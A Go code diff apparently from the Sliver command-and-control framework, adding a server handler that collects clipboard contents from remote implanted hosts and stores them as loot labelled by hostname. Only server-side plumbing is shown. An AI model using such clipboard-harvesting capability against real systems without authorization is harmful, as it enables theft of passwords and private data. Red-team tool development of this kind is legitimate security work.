@@ -21,8 +21,11 @@ package rpc
 import (
 	"context"
 
+	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/loot"
 )
 
 // Screenshot - Take a screenshot of the remote system
@@ -34,3 +37,27 @@ func (rpc *Server) Screenshot(ctx context.Context, req *sliverpb.ScreenshotReq)
 	}
 	return resp, nil
 }
+
+// Clipboard - Read or monitor the clipboard of the remote system, beacon entries
+// are saved as loot when the task result comes back
+func (rpc *Server) Clipboard(ctx context.Context, req *sliverpb.ClipboardReq) (*sliverpb.Clipboard, error) {
+	resp := &sliverpb.Clipboard{Response: &commonpb.Response{}}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	if req.Loot && !resp.Response.Async && resp.Response.Err == "" {
+		session := core.Sessions.Get(req.Request.SessionID)
+		if session == nil {
+			return resp, nil
+		}
+		err = loot.GetLootStore().SaveClipboardEntries(session.Hostname, req.LootName, resp.Entries)
+		if err != nil {
+			rpcLog.Errorf("Failed to save clipboard entries: %s", err)
+		}
+		core.EventBroker.Publish(core.Event{
+			EventType: consts.LootAddedEvent,
+		})
+	}
+	return resp, nil
+}